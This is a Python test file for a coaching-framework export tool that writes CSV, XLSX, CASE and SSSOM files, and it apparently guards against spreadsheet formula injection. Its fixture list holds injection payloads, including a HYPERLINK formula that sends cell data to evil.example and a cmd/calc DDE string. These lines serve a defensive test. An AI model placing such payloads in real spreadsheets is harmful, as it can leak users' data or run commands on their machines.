"""`coachref export --format csv|xlsx|case|json`: every file read back and compared with the model, safe in a
spreadsheet, valid CASE 1.1, repeatable byte for byte, and all-or-nothing on failure."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator, FormatChecker
from openpyxl import load_workbook  # type: ignore[import-untyped]

from generator.model.dates import data_date
from generator.model.types import (
    LANGUAGES,
    Framework,
    Group,
    Item,
    Label,
    Lang,
    Licence,
    Mapping,
    MappingSet,
    Model,
    Relation,
    Source,
    Text,
)
from generator.render.exports import EXPORTERS

from .helpers import ROOT, SHARED, model_of, run_cli

#: The published address, read from mkdocs.yml as plain text (the one source the CASE URIs must follow).
SITE_URL = re.findall(r"^site_url: (\S+)$", (ROOT / "mkdocs.yml").read_text(encoding="utf-8"), re.M)[0]

CASE_SCHEMA = SHARED / "reference" / "case-v1p1-cfpackage-schema.json"
UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def model() -> Model:
    return model_of(ROOT)


def _export(fmt: str, out: Path, *extra: str) -> dict[str, bytes]:
    code, stdout, stderr = run_cli(["export", "--format", fmt, "--out", str(out), *extra], ROOT)
    assert code == 0, stdout + stderr
    return {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}


def _safe(value: str) -> str:
    """What a CSV cell must hold for `value`: an apostrophe in front of anything a spreadsheet would run."""
    return "'" + value if value.startswith(DANGEROUS) else value


def _read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte-order mark missing"
    text = data.decode("utf-8-sig")
    assert text.endswith("\r\n")
    assert "\r\n" in text.split("\n", 1)[0] + "\n", "header line must end in CRLF"
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _items(model: Model, framework: Framework) -> list[Item]:
    return [i for g in framework.groups for i in g.items]


# --- CSV -------------------------------------------------------------------------------------------------------


def test_csv_holds_every_item_and_mapping_and_nothing_else(tmp_path: Path, model: Model) -> None:
    files = _export("csv", tmp_path)
    expected = {f"{f.id}-{lang}.csv" for f in model.frameworks for lang in LANGUAGES}
    expected |= {f"crosswalk-{s.id}-{lang}.csv" for s in model.mapping_sets for lang in LANGUAGES}
    assert set(files) == expected
    for lang in LANGUAGES:
        for framework in model.frameworks:
            rows = _read_csv(files[f"{framework.id}-{lang}.csv"])
            items = _items(model, framework)
            assert [r["id"] for r in rows] == [i.id for i in items]
            for row, item in zip(rows, items, strict=True):
                assert row["text"] == _safe(item.statement.get(lang))
                assert row["kind"] == item.statement.kind(lang)
                assert row["group"] == item.group
                assert row["framework"] == framework.id
                assert "official_url" in row
                if item.official_url:
                    assert row["official_url"] == item.official_url
        for mset in model.mapping_sets:
            rows = _read_csv(files[f"crosswalk-{mset.id}-{lang}.csv"])
            assert [(r["source_id"], r["relation"], r["target_id"]) for r in rows] == [
                (m.source, m.relation, m.target) for m in mset.mappings
            ]
            for row, m in zip(rows, mset.mappings, strict=True):
                assert row["rationale"] == _safe(m.rationale.get(lang))
                assert row["skos"] == model.relation[m.relation].skos
    st0809 = _read_csv(files["ST0809-en.csv"])
    assert all(r["official_url"].startswith("https://") for r in st0809)


def test_csv_keeps_dutch_characters(tmp_path: Path) -> None:
    files = _export("csv", tmp_path, "--lang", "nl")
    assert all(name.endswith("-nl.csv") for name in files)
    text = "".join(r["text"] for r in _read_csv(files["BVJN-nl.csv"]))
    assert "cliënt" in text
    assert "oriënterend" in text


# --- XLSX ------------------------------------------------------------------------------------------------------


def _sheet_rows(ws: Any) -> list[dict[str, Any]]:
    rows = list(ws.iter_rows(values_only=True))
    header = rows[0]
    return [{h: ("" if v is None else v) for h, v in zip(header, row, strict=True)} for row in rows[1:]]


def test_xlsx_holds_both_languages_of_every_item_and_mapping(tmp_path: Path, model: Model) -> None:
    files = _export("xlsx", tmp_path)
    assert set(files) == {"coachref.xlsx"}
    wb = load_workbook(tmp_path / "coachref.xlsx")
    assert wb.sheetnames == ["About"] + [f.id for f in model.frameworks] + [s.id for s in model.mapping_sets] + [
        "Coverage",
        "Relations",
    ]
    for framework in model.frameworks:
        ws = wb[framework.id]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{ws.cell(1, ws.max_column).column_letter}{ws.max_row}"
        assert all(ws.column_dimensions[c].width >= 10 for c in ("A", "B", "D", "F"))
        rows = _sheet_rows(ws)
        items = _items(model, framework)
        assert [r["id"] for r in rows] == [i.id for i in items]
        for row, item in zip(rows, items, strict=True):
            assert (row["text EN"], row["kind EN"]) == (item.statement.en, item.statement.kind_en)
            assert (row["text NL"], row["kind NL"]) == (item.statement.nl, item.statement.kind_nl)
            assert (row["label EN"], row["label NL"]) == (item.label_in("en"), item.label_in("nl"))
            assert row["group"] == item.group
        for cell in ws["A"][1:]:
            assert cell.data_type == "s"
            assert cell.number_format == "@"
            assert cell.alignment.wrap_text
    assert "cliënt" in "".join(r["text NL"] for r in _sheet_rows(wb["BVJN"]))
    for mset in model.mapping_sets:
        rows = _sheet_rows(wb[mset.id])
        assert [(r["source id"], r["relation"], r["target id"]) for r in rows] == [
            (m.source, m.relation, m.target) for m in mset.mappings
        ]
        assert [(r["rationale EN"], r["rationale NL"]) for r in rows] == [
            (m.rationale.en, m.rationale.nl) for m in mset.mappings
        ]


def test_xlsx_coverage_counts_items_and_mapped_items(tmp_path: Path, model: Model) -> None:
    _export("xlsx", tmp_path)
    rows = _sheet_rows(load_workbook(tmp_path / "coachref.xlsx")["Coverage"])
    by_key = {(r["crosswalk"], r["framework"], r["group"]): r for r in rows}
    strongest = [f"strongest: {r.id}" for r in model.relations]
    for mset in model.mapping_sets:
        for side, compared in (("source", mset.compared_source), ("target", mset.compared_target)):
            framework = getattr(mset, side)
            mapped = {getattr(m, side) for m in mset.mappings}
            for group_id in compared:
                group = model.groups[group_id]
                row = by_key[(mset.id, framework, group_id)]
                assert row["items"] == len(group.items)
                assert row["items mapped"] == sum(i.id in mapped for i in group.items)
                assert sum(row[c] for c in strongest) == row["items mapped"]
                assert row["unmapped"] == row["items"] - row["items mapped"]
                assert (row["unmapped items"] or "").split() == [i.id for i in group.items if i.id not in mapped]
            total = by_key[(mset.id, framework, "(all compared)")]
            assert total["items"] == sum(len(model.groups[g].items) for g in compared)
    assert len(rows) == sum(len(m.compared_source) + len(m.compared_target) + 2 for m in model.mapping_sets)


# --- formula injection, on a tiny synthetic model --------------------------------------------------------------


def _text(value: str) -> Text:
    return Text(value, value.replace("client", "cliënt"), "official", "translation")


def _framework(fid: str, statements: list[str]) -> Framework:
    items = tuple(Item(f"{fid}:{n}", str(n), fid, f"{fid}:g", _text(s)) for n, s in enumerate(statements, 1))
    return Framework(
        id=fid,
        folder=fid.lower(),
        title=_text(f"{fid} framework"),
        publisher=Label("P", "P"),
        reference=fid,
        version="1",
        status="published",
        official_languages=("en",),
        licence=Licence("none", Label("None", "Geen"), _text("No licence")),
        sources=(Source("s", Label("S", "S"), "https://example.org/s"),),
        groups=(Group(f"{fid}:g", "g", fid, _text("Group"), items),),
        date="2024-05-06",
        checked_on="2024-05-06",
    )


EVIL = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "a plain client statement",
]


@pytest.fixture()
def evil_model() -> Model:
    relation = Relation(
        "related",
        Label("Related", "Verwant"),
        _text("Related."),
        "skos:relatedMatch",
        "isRelatedTo",
        "related",
        1,
        "~",
        "#bf360c",
    )
    mapping = Mapping("EVIL:1", "SAFE:1", "related", _text("=1+1 is the rationale"), "=team", "2024-05-07")
    return Model(
        (_framework("EVIL", EVIL), _framework("SAFE", ["safe"])),
        (relation,),
        (MappingSet("EVIL--SAFE", "EVIL", "SAFE", (mapping,)),),
    )


def test_csv_neutralises_formulas(evil_model: Model) -> None:
    files = EXPORTERS["csv"](evil_model, None)
    for lang in LANGUAGES:
        rows = _read_csv(files[f"EVIL-{lang}.csv"])
        texts = [_text(s).get(lang) for s in EVIL]
        assert [r["text"] for r in rows] == ["'" + t for t in texts[:-1]] + [texts[-1]]
        assert rows[0]["text"].startswith("'=HYPERLINK(")
        assert rows[1]["text"].startswith("'@SUM")
        crosswalk = _read_csv(files[f"crosswalk-EVIL--SAFE-{lang}.csv"])
        assert crosswalk[0]["rationale"] == "'=1+1 is the rationale"
        assert crosswalk[0]["reviewed_by"] == "'=team"
    assert "cliënt" in files["EVIL-nl.csv"].decode("utf-8-sig")


def test_xlsx_stores_formulas_as_plain_text(tmp_path: Path, evil_model: Model) -> None:
    path = tmp_path / "evil.xlsx"
    path.write_bytes(EXPORTERS["xlsx"](evil_model, None)["coachref.xlsx"])
    wb = load_workbook(path)
    ws = wb["EVIL"]
    header = [c.value for c in ws[1]]
    column = header.index("text EN") + 1
    for row, statement in enumerate(EVIL, start=2):
        cell = ws.cell(row, column)
        # the text itself, unchanged (XML reads a bare CR back as LF: an XML rule, not ours)
        assert cell.value == statement.replace("\r", "\n")
        assert cell.data_type == "s"  # a string, never a formula
        assert cell.quotePrefix == statement.startswith(DANGEROUS)
    rationale = wb["EVIL--SAFE"].cell(2, [c.value for c in wb["EVIL--SAFE"][1]].index("rationale EN") + 1)
    assert (rationale.value, rationale.data_type, rationale.quotePrefix) == ("=1+1 is the rationale", "s", True)
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
    assert "<f>" not in sheet


def test_course_template_stores_formulas_as_plain_text(tmp_path: Path, evil_model: Model) -> None:
    """adversarial.md D1: a statement starting with "=" (or +, -, @, tab, CR) must not become a formula cell in the
    downloadable course template; every sheet is read back, and no sheet's XML holds a formula."""
    from generator.course.template import IDS_SHEET, write_template_xlsx

    path = tmp_path / "template.xlsx"
    path.write_bytes(write_template_xlsx(evil_model))
    wb = load_workbook(path)
    assert [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
    ids = {row[0].value: row for row in wb[IDS_SHEET].iter_rows(min_row=2)}
    for n, statement in enumerate(EVIL, start=1):
        row = ids[f"EVIL:{n}"]
        for cell, text in ((row[3], statement), (row[5], _text(statement).nl)):
            assert cell.value == text.replace("\r", "\n")  # XML reads a bare CR back as LF
            assert cell.data_type == "s"
            assert cell.quotePrefix == text.startswith(DANGEROUS)
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        assert not [n for n in sheets if "<f>" in archive.read(n).decode("utf-8")]


def test_sssom_records_stay_on_one_line(evil_model: Model) -> None:
    """adversarial.md D2: a tab or line break in a rationale (or a label) must not split an SSSOM/TSV record: IANA
    TSV has no escapes, so each becomes one space, and every record is one line with one field per column."""
    rationale = _text("first line\tTAB\nNEWLINE\r\nCRLF \u2028 separator\u2029end")
    mapping = Mapping("EVIL:5", "SAFE:1", "related", rationale, "team", "2024-05-07")
    mset = evil_model.mapping_sets[0]
    model = Model(
        evil_model.frameworks, evil_model.relations, (MappingSet(mset.id, mset.source, mset.target, (mapping,)),)
    )
    files = EXPORTERS["sssom"](model, None)
    assert len(files) == 4
    for name, data in files.items():
        text = data.decode("utf-8")
        assert "\r" not in text and "\u2028" not in text and "\u2029" not in text, name
        records = [line for line in text.split("\n") if line and not line.startswith("#")]
        header, (record,) = records[0].split("\t"), records[1:]
        assert len(record.split("\t")) == len(header), name
        comment = record.split("\t")[header.index("comment")]
        assert comment == "first line TAB NEWLINE CRLF separator end", comment
        label = record.split("\t")[header.index("subject_label" if name.startswith("EVIL") else "object_label")]
        assert label == "5: =1+1"  # "5: " and the statement "\t=1+1": the tab is a space


# --- CASE ------------------------------------------------------------------------------------------------------


def _case_validator() -> Draft202012Validator:
    if not CASE_SCHEMA.is_file():
        pytest.skip(
            f"the CASE 1.1 schema is third-party reference data outside the project; {CASE_SCHEMA} "
            "is absent here (it is present in CI)"
        )
    schema = json.loads(CASE_SCHEMA.read_text(encoding="utf-8"))
    return Draft202012Validator(schema, format_checker=FormatChecker())


def _ids(package: dict[str, Any]) -> list[str]:
    found = [package["CFDocument"]["identifier"]]
    found += [i["identifier"] for i in package["CFItems"]] + [a["identifier"] for a in package["CFAssociations"]]
    found += [t["identifier"] for t in package["CFDefinitions"]["CFItemTypes"]]
    return found + [lic["identifier"] for lic in package["CFDefinitions"]["CFLicenses"]]


def test_case_packages_validate_and_hold_the_model(tmp_path: Path, model: Model) -> None:
    validator = _case_validator()
    files = _export("case", tmp_path)
    assert set(files) == {f"{f.id}-{lang}.case.json" for f in model.frameworks for lang in LANGUAGES}
    documents: dict[tuple[str, str], str] = {}
    for framework in model.frameworks:
        for lang in LANGUAGES:
            package = json.loads(files[f"{framework.id}-{lang}.case.json"])
            errors = [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(package)]
            assert errors == []
            ids = _ids(package)
            assert len(ids) == len(set(ids))
            assert all(UUID.match(i) for i in ids), [i for i in ids if not UUID.match(i)]
            doc = package["CFDocument"]
            documents[(framework.id, lang)] = doc["identifier"]
            assert (doc["language"], doc["title"], doc["caseVersion"]) == (lang, framework.title.get(lang), "1.1")
            assert doc["uri"] == f"{SITE_URL}case/{doc['identifier']}"
            items = {i["humanCodingScheme"]: i for i in package["CFItems"]}
            expected = [g.id for g in framework.groups] + [i.id for i in _items(model, framework)]
            assert sorted(items) == sorted(expected)
            for item in _items(model, framework):
                record = items[item.id]
                assert record["fullStatement"].startswith(item.statement.get(lang))
                assert record["CFItemType"] == model.groups[item.group].title.get(lang)
                assert record["extensions"]["textKind"] == item.statement.kind(lang)
            by_type: dict[str, list[dict[str, Any]]] = {}
            for a in package["CFAssociations"]:
                by_type.setdefault(a["associationType"], []).append(a)
            assert len(by_type["isChildOf"]) == len(expected)  # every group and every item has one parent
            uuid_of = {i["identifier"]: code for code, i in items.items()}
            for a in by_type["isChildOf"]:
                child = uuid_of[a["originNodeURI"]["identifier"]]
                parent = model.items[child].parent if child in model.items else None
                want = parent or (model.items[child].group if child in model.items else None)
                got = uuid_of.get(a["destinationNodeURI"]["identifier"])
                assert got == want or (want is None and a["destinationNodeURI"]["identifier"] == doc["identifier"])
            crosswalk = [a for a in package["CFAssociations"] if "relation" in a.get("extensions", {})]
            mappings = [m for s in model.mapping_sets if framework.id in (s.source, s.target) for m in s.mappings]
            assert [
                (a["originNodeURI"]["title"], a["extensions"]["relation"], a["destinationNodeURI"]["title"])
                for a in crosswalk
            ] == [(m.source, m.relation, m.target) for m in mappings]
            for a, m in zip(crosswalk, mappings, strict=True):
                relation = model.relation[m.relation]
                assert a["associationType"] == relation.case_type
                assert a["extensions"]["skos"] == relation.skos
                assert m.rationale.get(lang) in a["notes"]
            assert len(by_type["isTranslationOf"]) == 1
    for framework in model.frameworks:  # the two documents point at each other's real identifiers
        link = next(
            a
            for a in json.loads(files[f"{framework.id}-en.case.json"])["CFAssociations"]
            if a["associationType"] == "isTranslationOf"
        )
        ends = {link["originNodeURI"]["identifier"], link["destinationNodeURI"]["identifier"]}
        assert ends == {documents[(framework.id, "en")], documents[(framework.id, "nl")]}


def test_case_one_language_only(tmp_path: Path, model: Model) -> None:
    files = _export("case", tmp_path, "--lang", "nl")
    assert set(files) == {f"{f.id}-nl.case.json" for f in model.frameworks}
    bvjn = json.loads(files["BVJN-nl.case.json"])
    assert any("oriënterend" in i["fullStatement"] for i in bvjn["CFItems"])


def test_case_synthetic_model_validates(evil_model: Model) -> None:
    validator = _case_validator()
    for name, data in EXPORTERS["case"](evil_model, None).items():
        errors = [f"{name} {list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(json.loads(data))]
        assert errors == []


# --- every format: repeatable, and all-or-nothing -------------------------------------------------------------


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
def test_two_exports_are_identical_byte_for_byte(tmp_path: Path, fmt: str) -> None:
    first = _export(fmt, tmp_path / "a")
    second = _export(fmt, tmp_path / "b")
    assert first
    assert first == second


@pytest.mark.parametrize("stage", ["render", "write"])
def test_failed_export_leaves_previous_files_untouched(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stage: str
) -> None:
    out = tmp_path / "out"
    before = _export("csv", out)
    (out / "ST0809-en.csv").write_bytes(b"an older export\r\n")  # so a rewrite would show
    before["ST0809-en.csv"] = b"an older export\r\n"
    real = EXPORTERS["csv"]

    def failing(model: Model, lang: Lang | None) -> dict[str, bytes]:
        files = real(model, lang)
        if stage == "render":
            raise RuntimeError("exporter failed half-way")
        # "zz…" sorts last: every other file is staged before writing this one fails
        return {**files, "zz-broken.csv": None}  # type: ignore[dict-item]

    monkeypatch.setitem(EXPORTERS, "csv", failing)
    code, stdout, stderr = run_cli(["export", "--format", "csv", "--out", str(out)], ROOT)
    assert code == 2
    assert "internal error" in stderr
    assert "Traceback" not in stdout + stderr
    after = {p.relative_to(out).as_posix(): p.read_bytes() for p in sorted(out.rglob("*")) if p.is_file()}
    assert after == before
    assert sorted(p.name for p in out.iterdir()) == sorted(before), "temporary files left behind"


def test_xlsx_prints_landscape_on_the_page_width_with_its_header_on_every_page(tmp_path: Path, model: Model) -> None:
    (tmp_path / "coachref.xlsx").write_bytes(EXPORTERS["xlsx"](model, None)["coachref.xlsx"])
    wb = load_workbook(tmp_path / "coachref.xlsx")
    assert wb.sheetnames[0] == "About"
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert str(ws.page_setup.paperSize) == str(ws.PAPERSIZE_A4)
        # fitToWidth left out means 1 (ECMA-376 Part 1, 18.3.1.64): XlsxWriter writes only what differs from the default
        assert ws.sheet_properties.pageSetUpPr.fitToPage and (ws.page_setup.fitToWidth or 1) == 1, ws.title
        assert ws.page_setup.fitToHeight == 0, ws.title
        assert ws.print_title_rows == "$1:$1", ws.title
    about = {row[0]: row[1:] for row in wb["About"].iter_rows(min_row=2, values_only=True)}
    assert about["data date"][0] == data_date(model)
    for fw in model.frameworks:
        assert fw.version in str(about[f"{fw.id}: version"][0])
        assert about[f"{fw.id}: licence"][0].startswith(fw.licence.name.en)
        assert about[f"{fw.id}: licence"][1].startswith(fw.licence.name.nl)


def test_openpyxl_is_told_to_read_without_lxml() -> None:
    """A course workbook must be read alike whether or not lxml happens to be installed: importing the package tells
    openpyxl to use the standard library's XML (generator/__init__.py), unless the caller said otherwise."""
    # lxml_env_set: what openpyxl reads of the setting, whether or not lxml is installed here
    code = "import generator, openpyxl.xml as x; print(x.lxml_env_set(), x.LXML)"
    env = {k: v for k, v in os.environ.items() if k != "OPENPYXL_LXML"}
    done = subprocess.run([sys.executable, "-c", code], env=env, capture_output=True, text=True, check=True)
    assert done.stdout.split() == ["False", "False"]
    done = subprocess.run(
        [sys.executable, "-c", code], env={**env, "OPENPYXL_LXML": "True"}, capture_output=True, text=True, check=True
    )
    assert done.stdout.split()[0] == "True"  # the caller's own setting stays
